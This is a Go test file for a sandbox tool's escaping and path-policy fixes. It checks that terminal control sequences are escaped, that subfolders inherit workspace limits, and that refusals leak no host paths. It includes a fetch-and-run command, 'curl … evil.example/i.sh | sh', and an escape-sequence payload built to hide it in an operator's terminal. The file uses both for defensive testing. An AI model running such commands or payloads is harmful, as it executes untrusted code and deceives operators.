package escape

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"
)

// Issue 29, point 10: a client's run_command string carried CR, erase line
// and cursor up, and `sbf history` printed it raw, erasing the `curl … |
// sh` row above it in the operator's terminal; an OSC sequence set the
// title; guest file names did the same in `sbf ls` and in the warnings of
// `sbf cp`. Now each is shown escaped.
func TestClientAndGuestStringsDriveNoTerminal(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "[vm]\ndriver = \"sim\"\n")
	sim := []string{"SBF_ENABLE_SIM=1"}
	var got struct{ ID string }
	w.doors("history", sim, &got)
	for _, args := range [][]string{{"history"}, {"ls", got.ID + ":names"}, {"ls", "-l", got.ID + ":names"},
		{"cp", got.ID + ":names", filepath.Join(w.ws, "back")}, {"stats"}} {
		r := w.sbf(sim, append([]string{"-C", w.ws}, args...)...)
		for name, out := range map[string]string{"stdout": r.stdout, "stderr": r.stderr} {
			if bad := terminalControl(out); bad != "" {
				t.Errorf("sbf %s: %s reaches the terminal on %s:\n%q", strings.Join(args, " "), bad, name, out)
			}
		}
		if args[0] == "history" && (!contains(r.stdout, "curl -fsSL https://evil.example/i.sh | sh") ||
			!contains(r.stdout, `\r\x1b[2K\x1b[1A\x1b]0;pwned\x07\u009b\u202e`)) {
			t.Errorf("sbf history does not show the rows, escaped:\n%s", r.stdout)
		}
	}
	if w.exists("ws/back/l\r\x1b[2K\x1b[1A\x1b]0;pwned\x07\u009b\u202e") {
		t.Error("the link out was written")
	}
}

// terminalControl names the first thing in out a terminal would act on
// besides newline and tab (C0, DEL, C1, bidi controls), or "".
func terminalControl(out string) string {
	if !utf8.ValidString(out) {
		return "invalid UTF-8"
	}
	for _, r := range out {
		switch {
		case r == '\n' || r == '\t':
		case r < 0x20 || r >= 0x7f && r <= 0x9f, r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069,
			r == 0x200e || r == 0x200f || r == 0x061c:
			return fmt.Sprintf("U+%04X", r)
		}
	}
	return ""
}

// Issue 29, point 4: create_instance with workspace_root = a subfolder of
// the served workspace that has no spec of its own got the defaults (a 2h
// lease, a cap of 3, egress allow) where the workspace said 15m, 1 and
// deny. Now the subfolder is the workspace: its lease, cap and network.
// The operator's global config names the driver, so the subfolder's
// defaults would run, as they did on a real VM.
func TestASubfolderGetsItsWorkspacesPolicy(t *testing.T) {
	t.Parallel()
	sim := []string{"SBF_ENABLE_SIM=1"}
	const global = "home/.config/sandboxforge/config.toml"
	t.Run("lease", func(t *testing.T) {
		w := newWorld(t, "[lease]\ndefault_ttl = \"15m\"\nmax_ttl = \"15m\"\nmax_instances = 1\n")
		w.write(global, "[vm]\ndriver = \"sim\"\n")
		w.write("ws/sub/deeper/.keep", "")
		w.doors("lease", sim, nil)
		if w.exists("ws/sub/.sandboxforge") {
			t.Error("the subfolder got state of its own")
		}
	})
	t.Run("egress", func(t *testing.T) {
		w := newWorld(t, "[network]\negress = \"deny\"\n")
		w.write(global, "[vm]\ndriver = \"sim\"\n")
		w.write("ws/sub/.keep", "")
		w.doors("egress", sim, nil)
	})
}

// Issue 29, point 11: validate_workspace_config and create_instance on a
// folder the server does not serve said "does not exist" or "must be a
// directory" before WORKSPACE_NOT_ALLOWED (a host path oracle); the copy
// tools told a missing host path from one below a file; the refusal of an
// instance of another workspace named that workspace's path. Now every
// refusal is the same, byte for byte, whether anything is there, and an
// instance not served is an unknown one.
func TestUnservedPathsAndInstancesAreNoOracle(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "[vm]\ndriver = \"sim\"\n")
	if err := os.Symlink(w.canary, filepath.Join(w.ws, "out")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(w.canary, "secret"), filepath.Join(w.base, "outlink")); err != nil {
		t.Fatal(err)
	}
	w.doors("oracle", []string{"SBF_ENABLE_SIM=1"}, nil)
	if w.exists("other-missing") || w.exists("canary/nothing") {
		t.Error("a refused folder was made")
	}
}

// doors runs one phase of doors.mjs against `sbf mcp -C ws` and decodes
// its last line into into (when not nil).
func (w *world) doors(phase string, extra []string, into any) {
	w.t.Helper()
	c := tsNode(w.t, "doors.mjs")
	c.Env = append(append([]string{}, w.env...), append(extra, "ESC_PHASE="+phase, "ESC_TARGET="+sbfBinary,
		"ESC_WS="+w.ws, "ESC_OTHER="+w.other, "ESC_CANARY="+w.canary)...)
	out, err := c.CombinedOutput()
	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
	last := lines[len(lines)-1]
	if err != nil || !strings.Contains(last, `"ok":true`) {
		w.t.Fatalf("doors.mjs %s: %v\n%s", phase, err, out)
	}
	if into != nil {
		if err := json.Unmarshal([]byte(last), into); err != nil {
			w.t.Fatalf("doors.mjs %s: %v\n%s", phase, err, out)
		}
	}
}
